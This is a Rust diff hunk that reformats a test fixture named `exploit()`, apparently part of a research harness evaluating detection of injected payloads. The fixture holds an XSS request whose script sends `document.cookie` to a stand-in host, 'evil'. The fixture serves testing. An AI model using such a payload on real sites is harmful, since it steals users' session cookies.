@@ -104,8 +104,10 @@ fn exploit() -> World {
     // NB: no spaces in the payload (the query parser stops at one), and
     // longer than 8 bytes — see `word_level_short_payload_false_negative`
     // in the crate tests for why that matters at word granularity.
-    worlds_base()
-        .net(b"GET /sysinfo?lng=<script>new_Image().src='//evil/'+document.cookie</script> HTTP/1.0".to_vec())
+    worlds_base().net(
+        b"GET /sysinfo?lng=<script>new_Image().src='//evil/'+document.cookie</script> HTTP/1.0"
+            .to_vec(),
+    )
 }
 
 /// Table-2 row.
